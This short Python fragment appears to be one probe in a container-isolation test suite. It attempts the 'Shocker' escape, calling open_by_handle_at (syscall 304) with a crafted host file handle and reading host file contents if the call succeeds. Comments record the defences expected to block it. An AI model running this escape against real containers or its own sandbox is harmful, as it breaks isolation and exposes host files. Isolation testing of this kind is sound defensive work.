# tried: opens a file of the host by its handle, which needs no path (the attack known as Shocker)
# wall: seccomp refuses `open_by_handle_at`; CAP_DAC_READ_SEARCH is not among the capabilities
# wall-gvisor: gVisor's own kernel has no handles of the host's files
# control: room
if not TARGET["handle"]:
    report(False, "no handle", absent="file handles")
kind, data = TARGET["handle"]
data = bytes.fromhex(data)
handle = ctypes.create_string_buffer(len(data).to_bytes(4, "little") + kind.to_bytes(4, "little", signed=True) + data)
errors = set()
# Any directory of the same file system will do; inside, all there are.
for directory in (TARGET["directory"], "/", "/etc/hosts", "/dev/shm", "/usr"):
    try:
        mount = os.open(directory, os.O_RDONLY)
    except OSError:
        continue
    descriptor, error = call(304, mount, handle, os.O_RDONLY)
    if error is None:
        report(True, os.read(descriptor, 100).decode().strip())
    errors.add(error)
report(False, ", ".join(sorted(errors)))
